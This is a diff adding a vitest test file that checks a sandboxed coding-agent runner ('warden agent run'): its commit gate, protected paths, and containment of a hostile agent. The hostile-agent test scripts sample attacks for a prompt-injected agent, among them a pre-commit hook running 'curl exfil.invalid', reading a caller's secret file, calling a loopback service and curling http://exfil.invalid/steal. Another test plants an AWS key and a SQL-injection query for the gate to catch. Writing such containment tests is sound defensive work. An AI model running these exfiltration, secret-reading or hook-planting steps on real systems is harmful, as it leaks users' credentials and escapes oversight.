@@ -1,0 +1,132 @@
+// `warden agent run` end to end with the scripted agent in real bubblewrap: a clean ticket is committed on an
+// agent/* branch, a dangerous one is stopped by the gate, BLOCKED ends a run, and what a prompt-injected agent
+// might try from inside (git, hooks, the caller's files, the host's services, hosts off the list) fails.
+import { execFileSync } from 'node:child_process';
+import { once } from 'node:events';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { homedir } from 'node:os';
+import path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { awsKeyId, git, gitRepo, warden } from './support/cli.js';
+
+const cleanups: Array<() => void> = [];
+afterAll(() => cleanups.forEach((c) => c()));
+
+const bwrapWorks = (() => {
+  try {
+    execFileSync('bwrap', ['--version']);
+    return true;
+  } catch {
+    return false;
+  }
+})();
+
+interface Report {
+  ok: boolean;
+  outcome: string;
+  reason?: string;
+  branch?: string;
+  commit?: string;
+  findings: Array<{ ruleId: string; file: string }>;
+  egress: { denied: Array<{ host: string; reason?: string }> };
+}
+
+function project(): string {
+  const repo = gitRepo({ 'package.json': '{ "name": "app", "license": "MIT" }\n', 'src/a.js': 'export const a = 1;\n', '.gitignore': '.warden/\n' });
+  cleanups.push(repo.cleanup);
+  git(repo.dir, 'add', '.');
+  git(repo.dir, 'commit', '-qm', 'init');
+  return repo.dir;
+}
+
+function runScripted(repo: string, ticket: string, steps: string, extra: string[] = []): { code: number; out: string; report: Report } {
+  writeFileSync(path.join(repo, '..', `${path.basename(repo)}-script.yaml`), steps);
+  const reportFile = path.join(repo, '..', `${path.basename(repo)}-report.json`);
+  const r = warden(['agent', 'run', '--prompt', ticket, '--script', path.join(repo, '..', `${path.basename(repo)}-script.yaml`), '--report', reportFile, ...extra], { cwd: repo });
+  return { code: r.code, out: `${r.stdout}${r.stderr}`, report: JSON.parse(readFileSync(reportFile, 'utf8')) as Report };
+}
+
+describe.skipIf(!bwrapWorks)('warden agent run (scripted agent, bwrap)', () => {
+  it('commits a clean change on an agent branch with a Warden-Run trailer, and leaves main alone', () => {
+    const repo = project();
+    const main = git(repo, 'rev-parse', 'main').trim();
+    const { code, report } = runScripted(repo, 'Add a greet helper', '- write:\n    path: src/greet.js\n    content: "export const greet = (n) => `Hello, ${n}!`;\\n"\n- reply: done\n');
+    expect(code).toBe(0);
+    expect(report).toMatchObject({ ok: true, outcome: 'committed', branch: expect.stringMatching(/^agent\/add-a-greet-helper-[0-9a-f]{6}$/) });
+    expect(git(repo, 'rev-parse', 'main').trim()).toBe(main);
+    expect(git(repo, 'show', `${report.branch}:src/greet.js`)).toContain('Hello');
+    expect(git(repo, 'log', '-1', '--format=%(trailers:key=Warden-Run,valueonly)', report.branch!).trim()).toMatch(/^[0-9a-f]{12}$/);
+    // The worktree and the run folder are gone.
+    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
+  });
+
+  it('stops a change the gate blocks: nothing committed, the findings reported and audited', () => {
+    const repo = project();
+    const steps = `- write:\n    path: src/db.js\n    content: |\n      const KEY = "${awsKeyId()}";\n      export const find = (db, req) => db.query("SELECT * FROM users WHERE id = " + req.query.id);\n`;
+    const { code, report, out } = runScripted(repo, 'Find users by id', steps);
+    expect(code).toBe(1);
+    expect(report.outcome).toBe('blocked-by-gate');
+    expect(report.findings.map((f) => f.ruleId).sort()).toEqual(['injection.sql-injection', 'secret.aws-access-key-id']);
+    expect(git(repo, 'branch', '--list', 'agent/*').trim()).toBe('');
+    expect(out).not.toMatch(/AKIA[A-Z2-7]{16}/);
+    const audit = readFileSync(path.join(repo, '.warden/audit.jsonl'), 'utf8');
+    expect(audit).toContain('"outcome":"blocked-by-gate"');
+    expect(audit).not.toMatch(/AKIA[A-Z2-7]{16}/);
+    expect(warden(['audit', 'verify'], { cwd: repo }).code).toBe(0);
+  });
+
+  it('blocks an agent that edits a protected path, and ends a run the agent says is BLOCKED', () => {
+    const repo = project();
+    const ci = runScripted(repo, 'Speed up CI', '- write:\n    path: .github/workflows/ci.yml\n    content: "on: push\\n"\n');
+    expect(ci.report.outcome).toBe('blocked-by-gate');
+    expect(ci.report.findings.map((f) => f.ruleId)).toEqual(['gate.protected-path']);
+    const blocked = runScripted(repo, 'Rotate the production keys', '- reply: "BLOCKED: this needs access to the production vault"\n');
+    expect(blocked.report).toMatchObject({ outcome: 'blocked-by-agent', reason: 'this needs access to the production vault' });
+  });
+
+  it('contains a hostile agent: no git, no hooks, no caller files, no host services, no unlisted hosts', async () => {
+    const repo = project();
+    const secret = path.join(homedir(), `.warden-agent-test-${process.pid}`);
+    writeFileSync(secret, 'caller-secret\n', { mode: 0o600 });
+    cleanups.push(() => execFileSync('rm', ['-f', secret]));
+    let hits = 0;
+    const service = createServer((_req, res) => {
+      hits++;
+      res.end('host service');
+    });
+    service.listen(0, '127.0.0.1');
+    await once(service, 'listening');
+    cleanups.push(() => service.close());
+    const port = (service.address() as AddressInfo).port;
+    const steps = [
+      `- run: "git add -A && git commit -qm sneaky 2>&1 | tail -1; echo git-exit-$?"`,
+      `- run: "echo 'curl exfil.invalid' > ${repo}/.git/hooks/pre-commit 2>&1 || echo hook-refused"`,
+      `- run: "cat ${secret} 2>&1 || echo secret-refused"`,
+      `- run: "curl -s -m 5 http://127.0.0.1:${port}/ --noproxy '*' || echo loopback-refused"`,
+      `- run: "curl -s -m 5 -o /dev/null -w '%{http_code}' http://exfil.invalid/steal; echo"`,
+      `- write:\n    path: notes.md\n    content: "tried\\n"`,
+    ].join('\n');
+    const { report, out } = runScripted(repo, 'Tidy up', `${steps}\n`);
+    expect(report.outcome).toBe('committed');
+    expect(out).toContain('hook-refused');
+    expect(out).toContain('secret-refused');
+    expect(out).toContain('loopback-refused');
+    expect(out).not.toContain('caller-secret');
+    expect(hits).toBe(0);
+    expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
+    expect(report.egress.denied).toEqual([expect.objectContaining({ host: 'exfil.invalid', reason: 'exfil.invalid is not on the egress allowlist' })]);
+    // The only commit is the runner's, on the agent branch.
+    expect(git(repo, 'log', '--format=%s', report.branch!).trim().split('\n')).toEqual(['Tidy up', 'init']);
+    expect(git(repo, 'log', '--format=%s', 'main').trim()).toBe('init');
+  });
+
+  it('refuses an unavailable backend in one line, never falling back', () => {
+    const repo = project();
+    mkdirSync(path.join(repo, 'x'), { recursive: true });
+    const r = warden(['agent', 'run', '--prompt', 'x', '--script', '/dev/null', '--sandbox', 'podman'], { cwd: repo });
+    expect(r.code).toBe(2);
+    expect(r.stderr.trim()).toMatch(/^warden: the podman backend cannot run here: .*; choose another with --sandbox/);
+  });
+});
